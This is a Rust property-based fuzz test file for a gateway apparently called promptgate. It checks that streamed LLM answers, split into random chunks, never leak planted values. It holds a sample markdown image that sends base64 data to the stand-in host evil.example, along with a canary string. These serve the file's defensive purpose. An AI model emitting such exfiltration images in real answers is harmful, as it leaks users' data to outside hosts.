//! Target `stream`: streamed answers read as they flow (issue 18): the
//! StreamChunk payload decoders, the incremental SSE reader and the
//! streaming inspection (`pipeline::AnswerStream`).
//!
//! Generated answers are OpenAI, Anthropic, Gemini or plain-data event
//! streams whose text mixes words (some non-ASCII), e-mail addresses, the
//! policy's canary and images that send data to a host not allowed, split
//! into deltas at random; each stream is then cut into random chunks (down to
//! one byte, so chunks split UTF-8 sequences, lines and `\r\n` pairs).
//! Properties:
//!
//! * the concatenation of the released bytes is the same for every cutting
//!   as for the whole stream in one chunk (the buffered release);
//! * no planted value is ever released: not in the bytes, not in the text a
//!   client joins from the released events; a stream with a canary or an
//!   exfiltration image is cut (STOP) and ends in an error event;
//! * every released event is still valid SSE whose data is JSON (or `[DONE]`);
//! * arbitrary and mutated bytes never panic and are chunking-invariant too;
//! * the payload decoders never panic on any bytes, and generated requests
//!   round trip.

use std::sync::{Arc, LazyLock};

use proptest::prelude::*;
use serde_json::{Value, json};

use promptgate::extract::{ExtractLimits, extract_response};
use promptgate::pipeline::{AnswerStream, Engines, RoutePolicy, StreamOutcome};
use promptgate::policy::{RouteConf, load_config_str};
use promptgate::protocol::{
    StreamApi, StreamChunkReq, StreamFlags, decode_stream_chunk, decode_stream_chunk_reply,
    encode_stream_chunk_req,
};
use promptgate::runtime::Runtime;

use crate::support::{self, Hex, Seed};

/// The corpus folder name.
pub const TARGET: &str = "stream";

const CANARY: &str = "PG-CANARY-5d2e9a71";
const EMAILS: [&str; 3] = [
    "maria.lopez@example.org",
    "j.smith+news@mail.example.com",
    "zoe.k@example.de",
];
const EXFIL: &str = "![chart](https://evil.example/c.png?d=c2VjcmV0IGRhdGE)";

const CONFIG: &str = "[policy.l2]\nenabled = false\n[policy.response]\nenabled = true\n\
                      canaries = [\"PG-CANARY-5d2e9a71\"]\n\
                      allowed_link_hosts = [\"*.trusted.example\"]\n\
                      stream_holdback_chars = 96\n";

static RUNTIME: LazyLock<(Runtime, RoutePolicy)> = LazyLock::new(|| {
    let config = load_config_str(CONFIG, "fuzz stream config", std::iter::empty())
        .unwrap_or_else(|e| panic!("fuzz stream config: {e}"));
    let runtime = Runtime::build(config, 1, &Engines::none())
        .unwrap_or_else(|e| panic!("fuzz stream config does not compile: {e}"));
    let policy = runtime
        .resolve(&RouteConf::default())
        .unwrap_or_else(|e| panic!("default policy: {e}"));
    (runtime, policy)
});

fn stream() -> AnswerStream {
    let (runtime, policy) = &*RUNTIME;
    AnswerStream::new(Arc::clone(&runtime.pipeline), policy.clone(), None)
}

/// Feeds `body` in pieces of the sizes in `cuts` (cycled; empty: one piece),
/// END on the last, as the plugin does (it stops at the first verdict that is
/// not CONTINUE). Returns the released bytes and the last outcome.
fn feed(body: &[u8], cuts: &[usize]) -> (Vec<u8>, StreamOutcome) {
    let mut s = stream();
    let mut pieces = Vec::new();
    let mut at = 0;
    let mut sizes = cuts.iter().cycle();
    while at < body.len() {
        let size = if cuts.is_empty() {
            body.len()
        } else {
            (*sizes.next().unwrap_or(&1)).max(1)
        };
        let end = (at + size).min(body.len());
        pieces.push(&body[at..end]);
        at = end;
    }
    if pieces.is_empty() {
        pieces.push(&body[..0]);
    }
    let mut out = Vec::new();
    let mut outcome = StreamOutcome::Continue;
    let last = pieces.len() - 1;
    for (i, piece) in pieces.iter().enumerate() {
        let step = s.push(piece, i == last);
        out.extend_from_slice(&step.release);
        outcome = step.outcome;
        if outcome != StreamOutcome::Continue {
            break;
        }
    }
    (out, outcome)
}

/// The chunking-invariance property, for any bytes.
fn check_invariant(body: &[u8], cuts: &[usize]) -> (Vec<u8>, StreamOutcome) {
    let whole = feed(body, &[]);
    let cut = feed(body, cuts);
    assert_eq!(
        Hex(cut.0.clone()),
        Hex(whole.0.clone()),
        "released bytes depend on the cutting {cuts:?}"
    );
    assert_eq!(cut.1, whole.1, "outcome depends on the cutting");
    whole
}

// === generated answers ===

/// What a stretch of answer text holds.
#[derive(Debug, Clone)]
enum Piece {
    Words(String),
    Email(usize),
    Canary,
    Exfil,
}

fn piece() -> impl Strategy<Value = Piece> {
    prop_oneof![
        6 => "[a-zA-Z ,.]{1,40}|[äöüßéñ✓你好 ]{1,12}".prop_map(Piece::Words),
        2 => (0..EMAILS.len()).prop_map(Piece::Email),
        1 => Just(Piece::Canary),
        1 => Just(Piece::Exfil),
    ]
}

#[derive(Debug, Clone, Copy)]
enum Format {
    OpenAi,
    Anthropic,
    Gemini,
    PlainData,
}

#[derive(Debug, Clone)]
struct Answer {
    format: Format,
    pieces: Vec<Piece>,
    /// Where the text is split into deltas (char counts, cycled).
    splits: Vec<usize>,
    /// Line ending: `\n`, `\r\n` or `\r`.
    eol: &'static str,
    done: bool,
    cuts: Vec<usize>,
}

fn answer() -> impl Strategy<Value = Answer> {
    (
        prop_oneof![
            Just(Format::OpenAi),
            Just(Format::Anthropic),
            Just(Format::Gemini),
            Just(Format::PlainData)
        ],
        proptest::collection::vec(piece(), 1..12),
        proptest::collection::vec(1usize..30, 1..6),
        prop_oneof![Just("\n"), Just("\r\n"), Just("\r")],
        any::<bool>(),
        proptest::collection::vec(
            prop_oneof![3 => 1usize..4, 2 => 1usize..64, 1 => 64usize..600],
            1..8,
        ),
    )
        .prop_map(|(format, pieces, splits, eol, done, cuts)| Answer {
            format,
            pieces,
            splits,
            eol,
            done,
            cuts,
        })
}

impl Answer {
    fn text(&self) -> String {
        let mut text = String::new();
        for p in &self.pieces {
            // Planted values stand between spaces, as in prose.
            match p {
                Piece::Words(w) => text.push_str(w),
                Piece::Email(i) => text.push_str(&format!(" {} ", EMAILS[*i])),
                Piece::Canary => text.push_str(&format!(" {CANARY} ")),
                Piece::Exfil => text.push_str(&format!(" {EXFIL} ")),
            }
        }
        text
    }

    fn planted(&self) -> Vec<&'static str> {
        self.pieces
            .iter()
            .filter_map(|p| match p {
                Piece::Email(i) => Some(EMAILS[*i]),
                Piece::Canary => Some(CANARY),
                Piece::Exfil => Some("evil.example"),
                Piece::Words(_) => None,
            })
            .collect()
    }

    fn blocks(&self) -> bool {
        self.pieces
            .iter()
            .any(|p| matches!(p, Piece::Canary | Piece::Exfil))
    }

    fn deltas(&self) -> Vec<String> {
        let chars: Vec<char> = self.text().chars().collect();
        let mut out = Vec::new();
        let mut at = 0;
        for n in self.splits.iter().cycle() {
            if at >= chars.len() {
                break;
            }
            let end = (at + n).min(chars.len());
            out.push(chars[at..end].iter().collect());
            at = end;
        }
        out
    }

    fn body(&self) -> Vec<u8> {
        let eol = self.eol;
        let mut out = String::new();
        let mut event = |lines: &[String]| {
            for l in lines {
                out.push_str(l);
                out.push_str(eol);
            }
            out.push_str(eol);
        };
        if let Format::Anthropic = self.format {
            event(&[
                "event: message_start".into(),
                r#"data: {"type":"message_start","message":{"id":"m","content":[]}}"#.into(),
            ]);
        }
        // Plain data events read as JSON or `[DONE]` when they start so:
        // such a delta is carried into the next one instead.
        let mut carry = String::new();
        let misread = |d: &str| {
            let t = d.trim_start();
            t.starts_with(['{', '[']) || d.trim() == "[DONE]" || t.is_empty()
        };
        for d in self.deltas() {
            match self.format {
                Format::OpenAi => {
                    let e = json!({"id":"c","choices":[{"index":0,"delta":{"content":d}}]});
                    event(&[format!("data: {e}")]);
                }
                Format::Anthropic => {
                    let e = json!({"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":d}});
                    event(&["event: content_block_delta".into(), format!("data: {e}")]);
                }
                Format::Gemini => {
                    let e = json!({"candidates":[{"index":0,"content":{"role":"model","parts":[{"text":d}]}}]});
                    event(&[format!("data: {e}")]);
                }
                Format::PlainData => {
                    carry.push_str(&d);
                    if !misread(&carry) {
                        event(&[format!("data: {}", std::mem::take(&mut carry))]);
                    }
                }
            }
        }
        if !carry.is_empty() {
            event(&[format!("data: x{carry}")]);
        }
        if self.done {
            match self.format {
                Format::Anthropic => event(&[
                    "event: message_stop".into(),
                    r#"data: {"type":"message_stop"}"#.into(),
                ]),
                _ => event(&["data: [DONE]".into()]),
            }
        }
        out.into_bytes()
    }
}

/// The text a client joins from released events.
fn client_text(released: &[u8]) -> String {
    let limits = ExtractLimits::default();
    match extract_response(released, Some("text/event-stream"), &limits) {
        Ok(x) => x
            .segments()
            .iter()
            .map(|s| s.text.as_str())
            .collect::<Vec<_>>()
            .join("\u{0}"),
        Err(e) => panic!("released bytes do not read back: {e}"),
    }
}

fn check_answer(answer: &Answer) {
    let body = answer.body();
    let (released, outcome) = check_invariant(&body, &answer.cuts);
    let bytes = String::from_utf8_lossy(&released);
    let text = client_text(&released);
    for value in answer.planted() {
        assert!(
            !bytes.contains(value) && !text.contains(value),
            "{value:?} released: {text:?}"
        );
    }
    if answer.blocks() {
        assert_eq!(outcome, StreamOutcome::Stop);
        assert!(bytes.contains("error"), "no error event: {bytes:?}");
    } else {
        assert_eq!(outcome, StreamOutcome::Continue);
    }
    // Every released data line is JSON (or [DONE]) in the JSON formats.
    if !matches!(answer.format, Format::PlainData) {
        for line in bytes.split(['\r', '\n']) {
            if let Some(data) = line.strip_prefix("data: ") {
                assert!(
                    data == "[DONE]" || serde_json::from_str::<Value>(data).is_ok(),
                    "released data is not JSON: {data:?}"
                );
            }
        }
    }
}

// === payloads ===

fn check_payload(bytes: &[u8]) {
    let _ = decode_stream_chunk(bytes);
    let _ = decode_stream_chunk_reply(bytes);
}

fn request() -> impl Strategy<Value = (u8, u8, Vec<u8>, Vec<u8>, Vec<u8>)> {
    (
        0u8..8,
        0u8..4,
        "[!-~]{1,128}".prop_map(String::into_bytes),
        proptest::collection::vec(any::<u8>(), 0..64),
        proptest::collection::vec(any::<u8>(), 0..512),
    )
}

// === seeds ===

/// Streams worth keeping; written to the corpus by `harness::write_seeds`.
pub fn seeds() -> Vec<(&'static str, Vec<u8>)> {
    let answer = |format, eol| Answer {
        format,
        pieces: vec![
            Piece::Words("Hello there, ".into()),
            Piece::Email(0),
            Piece::Words("and ünïcode ✓".into()),
        ],
        splits: vec![3, 7],
        eol,
        done: true,
        cuts: vec![1],
    };
    vec![
        ("openai.sse", answer(Format::OpenAi, "\n").body()),
        ("anthropic-crlf.sse", answer(Format::Anthropic, "\r\n").body()),
        ("gemini-cr.sse", answer(Format::Gemini, "\r").body()),
        ("plain-data.sse", answer(Format::PlainData, "\n").body()),
        (
            "comments-and-multiline.sse",
            b": keep-alive\n\nretry: 10\nid: 1\ndata: {\"choices\":\ndata: [{\"delta\":{\"content\":\"x\"}}]}\n\n\n\ndata: [DONE]"
                .to_vec(),
        ),
    ]
}

fn all_seeds() -> Vec<Seed> {
    support::corpus_with(TARGET, seeds())
}

// === the properties ===

/// Cases per property in plain `cargo test`.
const CASES: u32 = 128;

#[test]
fn stream_corpus_replays() {
    for seed in all_seeds() {
        for cuts in [&[1usize][..], &[2, 5], &[13], &[]] {
            check_invariant(&seed.bytes, cuts);
        }
        check_payload(&seed.bytes);
    }
}

#[test]
fn stream_generated_answers() {
    LazyLock::force(&RUNTIME);
    support::fuzz("stream_generated_answers", CASES, answer(), |answer| {
        check_answer(&answer);
        Ok(())
    });
}

#[test]
fn stream_mutated_corpus() {
    LazyLock::force(&RUNTIME);
    let inputs = (
        support::mutated(all_seeds()),
        proptest::collection::vec(1usize..40, 1..5),
    );
    support::fuzz(
        "stream_mutated_corpus",
        CASES,
        inputs,
        |((_, body), cuts)| {
            check_invariant(&body.0, &cuts);
            check_payload(&body.0);
            Ok(())
        },
    );
}

#[test]
fn stream_arbitrary_bytes() {
    LazyLock::force(&RUNTIME);
    let inputs = (
        proptest::collection::vec(any::<u8>(), 0..512).prop_map(Hex),
        proptest::collection::vec(1usize..16, 1..5),
    );
    support::fuzz("stream_arbitrary_bytes", CASES, inputs, |(body, cuts)| {
        check_invariant(&body.0, &cuts);
        check_payload(&body.0);
        Ok(())
    });
}

#[test]
fn stream_payloads_round_trip() {
    support::fuzz(
        "stream_payloads_round_trip",
        CASES,
        request(),
        |(flags, api, id, conf, chunk)| {
            let open = flags & StreamFlags::OPEN != 0;
            let req = StreamChunkReq {
                flags: StreamFlags::from_bits(flags),
                api: StreamApi::from_u8(api).unwrap_or_default(),
                id: &id,
                conf: if open { &conf } else { b"" },
                route: if open { b"r1" } else { b"" },
                content_type: if open { b"text/event-stream" } else { b"" },
                chunk: &chunk,
            };
            let mut payload = Vec::new();
            encode_stream_chunk_req(&req, &mut payload);
            prop_assert_eq!(decode_stream_chunk(&payload), Ok(req));
            // Every shorter payload is refused, never read past its end.
            for cut in 0..payload.len() {
                prop_assert!(decode_stream_chunk(&payload[..cut]).is_err());
            }
            Ok(())
        },
    );
}
